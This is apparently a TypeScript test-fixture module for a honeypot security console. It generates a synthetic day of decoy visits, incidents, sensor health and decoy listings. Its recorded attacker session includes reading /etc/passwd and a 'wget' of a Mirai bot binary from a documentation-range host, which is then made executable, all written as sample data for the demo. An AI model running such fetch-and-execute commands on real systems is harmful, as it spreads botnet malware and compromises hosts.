/** A believable month on one install, for pages and pictures of the console: events, incidents, what was done, decoys, recordings. The same each time but for the clock. */
import type { ApiOptions } from '@netsentinel/api/api.types';
import type { Action } from '@netsentinel/contracts/action';
import type { Severity } from '@netsentinel/contracts/detection';
import type { Event } from '@netsentinel/contracts/event';
import type { Incident } from '@netsentinel/contracts/incident';
import type { PlatformStatus } from '@netsentinel/contracts/live';
import { DECOY_SENSOR } from '@netsentinel/contracts/own-sensors';
import type { DecoyTest, DecoyVerdict } from '@netsentinel/contracts/decoy-test';
import type { DecoyDetail } from '@netsentinel/contracts/played-decoy';
import type { SensorDetail } from '@netsentinel/contracts/sensor-status';
import { sampleEvent } from '@netsentinel/store/bench/sample-events';
import { sampleDecoy, type ApiHarness } from './api-harness.ts';
import { sampleBlock, sampleIncident } from './sample-incidents.ts';
import { fillResponse } from './sample-response.ts';

const HOUR = 3_600_000;
const EVENTS = 6_000;
const SESSIONS = 400;
const INCIDENTS = 60;

const PROTOCOLS = ['ssh', 'http', 'ssh', 'telnet', 'redis', 'smb', 'ssh', 'rdp', 'mysql', 'http', 'ftp'];

const KINDS: readonly {
  readonly title: string;
  readonly severity: Severity;
  readonly score: number;
  readonly techniques: string[];
  readonly tactics: string[];
}[] = [
  {
    title: 'Brute-forced login, then a bot was fetched and started',
    severity: 'critical',
    score: 94,
    techniques: ['T1110.001', 'T1078', 'T1059.004', 'T1105'],
    tactics: ['TA0006', 'TA0001', 'TA0002', 'TA0011'],
  },
  {
    title: 'Many failed logins',
    severity: 'medium',
    score: 48,
    techniques: ['T1110.001'],
    tactics: ['TA0006'],
  },
  {
    title: 'Port scan of nine services',
    severity: 'low',
    score: 22,
    techniques: ['T1595.001', 'T1046'],
    tactics: ['TA0043', 'TA0007'],
  },
  {
    title: 'Log4Shell was tried on a web decoy',
    severity: 'high',
    score: 76,
    techniques: ['T1190', 'T1059.004'],
    tactics: ['TA0001', 'TA0002'],
  },
  {
    title: 'Redis was told to write an SSH key',
    severity: 'high',
    score: 81,
    techniques: ['T1098.004', 'T1105'],
    tactics: ['TA0003', 'TA0011'],
  },
  { title: 'One login was tried', severity: 'info', score: 8, techniques: ['T1110.003'], tactics: ['TA0006'] },
];
const STATUSES: readonly Incident['status'][] = ['open', 'open', 'contained', 'closed'];

/** Fills the stores of a harness. `now`: epoch ms of the latest moment. @returns what it put there */
export async function fillWorld(
  h: ApiHarness,
  now = Date.now(),
): Promise<{ readonly incidents: readonly Incident[]; readonly actions: readonly Action[] }> {
  const start = now - 24 * HOUR;
  for (let at = 0; at < EVENTS; at += 1_000)
    await h.events.append(
      Array.from({ length: 1_000 }, (_, n) => sampleEvent(at + n, start, EVENTS / 86_400)),
      [],
    );
  await h.events.append(
    Array.from({ length: 2 * SESSIONS }, (_, n) => visitOf(n, start)),
    [],
  );
  await h.events.append(
    Array.from({ length: 2 * SESSIONS }, (_, n) => visitOf(n, start)).flatMap((event, n) => triedIn(event, n)),
    [],
  );
  const incidents = Array.from({ length: INCIDENTS }, (_, n) => incidentOf(n, now));
  const actions = incidents
    .filter(({ status }) => status === 'contained')
    .map((incident, n) =>
      sampleBlock(`act-${n}`, incident, incident.lastSeen, {
        status: incident.lastSeen > now - HOUR ? 'verified' : 'expired',
      }),
    );
  await h.state.transaction(async (tx) => {
    for (const incident of incidents) await tx.putIncident(incident);
    for (const action of actions) await tx.putAction(action);
  });
  await fillResponse(h, incidents, now);
  for (const { sessions, timeline } of incidents.slice(0, 3)) {
    const login = timeline.find(({ title }) => title.startsWith('Logged in'))!.time;
    await record(h, sessions[0]!.recording!, login);
  }
  for (const session of recordedVisits()) await record(h, session, now);
  return { incidents, actions };
}

/** The beginning or the end of a visit to a decoy. */
function visitOf(n: number, start: number): Event {
  const session = Math.floor(n / 2);
  const isEnd = n % 2 === 1;
  const protocol = PROTOCOLS[(session * 7) % PROTOCOLS.length]!;
  const event = sampleEvent(session * 12, start, (SESSIONS * 12) / 86_400);
  const lastedMs = 2_000 + ((session * 7_919) % 240_000);
  // They come in waves.
  const part = session / SESSIONS;
  const at = start + (part + 0.045 * Math.sin(6 * Math.PI * part)) * 24 * HOUR;
  // Some are whom incidents are about, the newest of them the newest.
  const known = (SESSIONS - session) % 5 === 0 ? `203.0.113.${(((SESSIONS - session) / 5 - 1) * 7) % 250}` : undefined;
  return {
    ...event,
    ...(known === undefined ? {} : { source: { ...event.source, ip: known }, related: { ip: [known] } }),
    '@timestamp': new Date(at + (isEnd ? lastedMs : 0)).toISOString(),
    message: isEnd ? 'Disconnected' : 'Connected',
    network: { ...event.network, protocol },
    event: {
      ...event.event,
      id: `visit~${n.toString(36)}`,
      category: ['session'],
      type: [isEnd ? 'end' : 'start'],
      action: `${protocol}-${isEnd ? 'disconnect' : 'connect'}`,
      outcome: 'success',
      ...(isEnd ? { duration: lastedMs * 1e6 } : {}),
    },
    netsentinel: {
      ...event.netsentinel,
      ...(known === undefined ? {} : { actor: known }),
      decoy: { id: protocol, type: protocol },
      sensor: { id: DECOY_SENSOR, type: 'decoy' },
      ...(isEnd && protocol === 'ssh'
        ? { recording: { id: event.netsentinel.session!.id, format: 'asciicast-v2' as const, duration_ms: lastedMs } }
        : {}),
    },
  };
}

/** What was tried in a visit to a terminal: some guess, and some of them get in. `begin`: the visit's first event. */
function triedIn(begin: Event, n: number): Event[] {
  const { protocol = '' } = begin.network ?? {};
  if (n % 2 === 1 || !['ssh', 'telnet'].includes(protocol)) return [];
  const start = Date.parse(begin['@timestamp']);
  return Array.from({ length: n % 12 }, (_, m) => {
    const event = sampleEvent(n * 12 + (n % 5 === 0 && m > 6 ? 9 : m % 8), start, 1);
    const isLogin = event.event.category?.includes('authentication') === true;
    return {
      ...begin,
      ...event,
      '@timestamp': new Date(start + (m + 1) * 150).toISOString(),
      source: begin.source,
      network: begin.network,
      related: begin.related,
      ...(isLogin
        ? {}
        : { threat: { framework: 'MITRE ATT&CK', technique: { id: [n % 4 === 0 ? 'T1105' : 'T1059.004'] } } }),
      event: {
        ...event.event,
        id: `tried~${n.toString(36)}~${m}`,
        action: `${protocol}-${isLogin ? 'login' : 'command'}`,
      },
      netsentinel: { ...event.netsentinel, ...begin.netsentinel },
    };
  });
}

/** Sessions of the newest visits to the SSH decoy. */
function recordedVisits(): string[] {
  return Array.from({ length: SESSIONS }, (_, session) => visitOf(2 * session + 1, 0))
    .flatMap(({ netsentinel: { recording } }) => (recording === undefined ? [] : [recording.id]))
    .slice(-12);
}

const WEB = { persona: 'ubuntu-22.04-web', host: 'shop-web-02' } as const;
const FILES = { persona: 'windows-2019-fileserver', host: 'FS01' } as const;
const DATA = { persona: 'debian-12-database', host: 'db-replica-1' } as const;

/** Three machines and a router; one decoy fails, one is stopped. */
export function sampleDecoys(): DecoyDetail[] {
  const decoy = (id: string, port: number, change: Partial<DecoyDetail>): DecoyDetail => ({
    ...sampleDecoy(id, port),
    type: id,
    service: id,
    config: {},
    ...change,
  });
  return [
    { ...sampleDecoy('ssh', 2222), ...WEB, version: '8.9p1 Ubuntu 3ubuntu0.13', connections: 2 },
    decoy('http', 8080, { ...WEB, product: 'nginx', version: '1.18.0' }),
    decoy('ftp', 2121, { ...WEB, product: 'vsftpd', version: '3.0.5', healthy: false, listening: false }),
    decoy('smb', 4445, {
      ...FILES,
      service: 'microsoft-ds',
      product: 'Microsoft Windows Server 2019',
      version: '',
      connections: 1,
    }),
    decoy('rdp', 3389, { ...FILES, service: 'ms-wbt-server', product: 'Microsoft Terminal Services', version: '' }),
    decoy('mysql', 3306, { ...DATA, product: 'MySQL', version: '8.0.36' }),
    decoy('redis', 6379, { ...DATA, product: 'Redis key-value store', version: '7.0.15' }),
    decoy('telnet', 2323, {
      persona: 'dlink-home-router',
      host: 'DIR-615',
      product: 'BusyBox telnetd',
      version: '',
      stopped: true,
      listening: false,
    }),
  ];
}

/** One was an hour ago; the next is over when it is asked for the third time. */
export function sampleDecoyTests(): ApiOptions['decoyTests'] {
  const endedAt = Date.now() - HOUR;
  const decoys = sampleDecoys()
    .filter(({ stopped }) => !stopped)
    .map(({ id }) => ({ decoy: id, score: 0, tells: 0, alike: 14, skipped: 3 }));
  const verdict: DecoyVerdict = {
    score: 30,
    decoys: [...decoys, { decoy: FILES.host, score: 30, tells: 1, alike: 0, skipped: 0 }],
    tells: [
      {
        decoy: FILES.host,
        check: 'machine-tcp-stack',
        title: 'TCP/IP of the system that it claims (nmap -O, p0f)',
        tell: 'a SYN is answered with TTL 64; Windows Server 2019 answers with 128',
        weight: 30,
        mend: 'Have the enforcer play the TCP/IP of Windows: `enforcer.stacks.play`.',
      },
    ],
  };
  let test: DecoyTest = { isRunning: false, startedAt: endedAt - 90_000, endedAt, verdict };
  let asked = 0;
  return {
    status: () => {
      if (test.isRunning && ++asked > 2)
        test = { isRunning: false, startedAt: endedAt, endedAt: Date.now(), verdict: { score: 0, decoys, tells: [] } };
      return test;
    },
    begin: () => {
      asked = 0;
      return (test = { ...test, isRunning: true, startedAt: Date.now() });
    },
  };
}

/** The last one is now; older ones lie further and further apart. */
function incidentOf(n: number, now: number): Incident {
  const kind = KINDS[n % KINDS.length]!;
  const address = `203.0.113.${(n * 7) % 250}`;
  return sampleIncident(`inc-${n}`, Math.round(now - (n * n * 0.18 + 0.02) * HOUR), {
    title: kind.title,
    severity: kind.severity,
    score: kind.score,
    techniques: kind.techniques,
    tactics: kind.tactics,
    actor: address,
    addresses: [address],
    status: STATUSES[n % STATUSES.length]!,
    // As the events of this world have it.
    fingerprints: [
      { kind: 'hassh', value: '0df0d56bb50c6b2426d8d40234bf1826' },
      { kind: 'ssh-client', value: 'SSH-2.0-Go' },
    ],
  });
}

/** What the attacker of a `sampleIncident` saw: the terminal from their login on. */
async function record(h: ApiHarness, recording: string, login: number): Promise<void> {
  const writer = await h.blobs.openRecording(recording);
  const lines = [JSON.stringify({ version: 2, width: 80, height: 24, timestamp: Math.floor(login / 1000) })];
  const typed: readonly (readonly [seconds: number, text: string])[] = [
    [
      0.4,
      'uname -a\r\nLinux web 6.1.0-31-amd64 #1 SMP x86_64 GNU/Linux\r\nroot@web:~# cat /etc/passwd | head -1\r\nroot:x:0:0:root:/root:/bin/bash\r\nroot@web:~# ',
    ],
    [17, 'uname -a; cat /proc/cpuinfo | grep name | wc -l\r\n2\r\nroot@web:~# '],
    [71, 'wget http://198.51.100.9/bins/mirai.x86 -O /tmp/.x\r\n/tmp/.x saved\r\nroot@web:~# chmod 777 /tmp/.x\r\n'],
  ];
  lines.push(JSON.stringify([0.1, 'o', 'root@web:~# ']));
  for (const [seconds, text] of typed) {
    let at = seconds;
    for (const piece of text.match(/.{1,6}|\r\n/gs) ?? []) lines.push(JSON.stringify([(at += 0.06), 'o', piece]));
  }
  await writer.append(Buffer.from(`${lines.join('\n')}\n`));
  await writer.close();
}

/** What the platform's status says of these decoys. */
export function standingsOf(decoys: readonly DecoyDetail[]): PlatformStatus['decoys'] {
  return decoys.map(({ id, type, address, port, connections, healthy, listening, stopped }) => ({
    id,
    type,
    listen: `${address}:${port}`,
    connections,
    healthy: healthy && listening,
    stopped,
  }));
}

/** One collector that fails and is late, and others in order. `now`: epoch ms. */
export function sampleSensors(now = Date.now()): SensorDetail[] {
  const sensor = (id: string, type: string, change: Partial<SensorDetail>): SensorDetail => ({
    id,
    type,
    healthy: true,
    events: 0,
    refused: 0,
    lastRecordAt: now - 2_000,
    lagBytes: 0,
    dropped: 0,
    problems: [],
    sources: { read: 0, expected: 0, silent: 0 },
    heartbeat: { lastSeen: now - 1_000 },
    expected: [],
    ...change,
  });
  return [
    sensor('decoys', 'decoy-host', { events: 128_402 }),
    sensor('watcher', 'watcher', { events: 2_311, lastRecordAt: now - 340_000 }),
    sensor('syslog', 'syslog', {
      events: 1_204_551,
      refused: 12,
      sources: { read: 3, expected: 3, silent: 1 },
      expected: [
        { name: '192.0.2.14', firstSeen: now - 30 * 24 * HOUR, lastSeen: now - 3 * HOUR, silentSince: now - 2 * HOUR },
        { name: '192.0.2.11', firstSeen: now - 30 * 24 * HOUR, lastSeen: now - 4_000 },
        { name: '192.0.2.12', firstSeen: now - 12 * 24 * HOUR, lastSeen: now - 9_000 },
      ],
    }),
    sensor('nginx', 'tail', {
      healthy: false,
      events: 88_120,
      lagBytes: 48_300_000,
      lastRecordAt: now - 95_000,
      problems: ['no right to read /var/log/nginx/error.log'],
      sources: { read: 1, expected: 1, silent: 0 },
      expected: [{ name: 'web-1 /var/log/nginx/access.log', firstSeen: now - 9 * 24 * HOUR, lastSeen: now - 95_000 }],
    }),
  ];
}
